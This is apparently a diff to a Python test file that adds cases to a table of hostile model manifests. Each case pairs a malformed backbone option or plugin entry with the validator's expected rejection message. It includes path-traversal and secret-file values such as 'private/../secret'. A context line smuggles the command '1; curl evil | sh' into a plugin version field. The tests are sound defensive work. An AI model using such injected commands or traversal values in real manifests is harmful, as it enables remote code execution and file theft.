@@ -128,6 +128,50 @@ HOSTILE_MODELS: dict[str, tuple[Callable[[Path, Path], Any], str]] = {
         lambda m, p: edit(manifest_of(m), "plugins", [{**PLUGIN, "name": f"local-dir:{p}"}]),
         r"lists 'local-dir:.*' as the backbone of a plugin, and has no such backbone: it was made",
     ),
+    "an option that is a path": (
+        lambda m, p: edit(manifest_of(m), "backbones.0.name", f"test_resnet,checkpoint_path={p}/secret"),
+        r"has an option of no network, 'checkpoint_path=/.*'",
+    ),
+    "an option that names a file": (
+        lambda m, p: edit(manifest_of(m), "backbones.0.name", "test_resnet,checkpoint_path=secret.json"),
+        r"the model argument checkpoint_path can't be given",
+    ),
+    "an option that leads out": (
+        lambda m, p: edit(manifest_of(m), "backbones.0.name", "test_resnet,stem_type=private/../secret"),
+        r"has an option of no network, 'stem_type=private/\.\./secret'",
+    ),
+    "an option of a million": (
+        lambda m, p: edit(manifest_of(m), "backbones.0.name", "test_resnet,base_width=1000000"),
+        r"base_width = 1000000 is invalid: numbers are at most 4,096",
+    ),
+    "options of a huge network": (
+        lambda m, p: edit(manifest_of(m), "backbones.0.name", "test_resnet,layers=4000/4000/4000/4000@x"),
+        r"timm can't build test_resnet with layers=.*ValueError: the network that is described is larger",
+    ),
+    "a family's name with an option and a folder": (
+        lambda m, p: edit(manifest_of(m), "backbones.0.name", f"local-dir:{p},mean=0.5"),
+        r"There is no backbone named 'local-dir:/.*private'",
+    ),
+    "levels that no plugin has": (
+        lambda m, p: edit(member_of(m), "levels", "martian"),
+        r"member\.json: There is no levels named 'martian'",
+    ),
+    "an augmentation that no plugin has": (
+        lambda m, p: edit(member_of(m), "views", [{"policy": "martian", "number": 0}]),
+        r"member\.json: There is no augmentation named 'martian'",
+    ),
+    "a view that its augmentation doesn't have": (
+        lambda m, p: edit(member_of(m), "views", [{"policy": "flip", "number": 1}]),
+        r"augmentation 'flip' has 1 views, and number 1 is none of them",
+    ),
+    "levels of a missing plugin": (
+        lambda m, p: edit(manifest_of(m), "plugins", [{**PLUGIN, "component": "levels", "name": "pooled"}]),
+        r"needs the levels 'pooled' of plugin 'mars' \(mars-parts 1\), which isn't installed",
+    ),
+    "an augmentation of a missing plugin": (
+        lambda m, p: edit(manifest_of(m), "plugins", [{**PLUGIN, "component": "augmentation", "name": "warp"}]),
+        r"needs the augmentation 'warp' of plugin 'mars'",
+    ),
     "a command for the user to type": (
         lambda m, p: edit(manifest_of(m), "plugins", [{**PLUGIN, "version": "1; curl evil | sh"}]),
         r"plugins\.0\.version = '1; curl evil \| sh'",
